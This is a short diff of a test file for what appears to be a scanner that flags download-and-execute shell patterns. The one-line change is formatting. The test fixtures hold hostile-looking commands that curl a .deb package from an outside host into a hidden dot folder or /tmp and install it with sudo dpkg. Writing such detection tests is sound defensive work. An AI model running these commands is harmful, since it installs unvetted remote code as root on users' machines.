@@ -81,7 +81,8 @@ describe("saved downloads in more languages", () => {
   });
 
   it("reads a downloaded package installed as run: raised from a dot folder, not a temporary one", async () => {
-    const dot = "curl -sSL https://dl.sync-x.net/t.deb -o ~/.cache/.t/t.deb\nsudo dpkg -i ~/.cache/.t/t.deb\n";
+    const dot =
+      "curl -sSL https://dl.sync-x.net/t.deb -o ~/.cache/.t/t.deb\nsudo dpkg -i ~/.cache/.t/t.deb\n";
     expect(await rulesOf({ "a.sh": dot })).toContain("download-execute-raised");
     const tmp = "curl -sSL https://dl.sync-x.net/t.deb -o /tmp/t.deb\nsudo dpkg -i /tmp/t.deb\n";
     expect(await rulesOf({ "a.sh": tmp }, "medium")).toContain("download-execute");
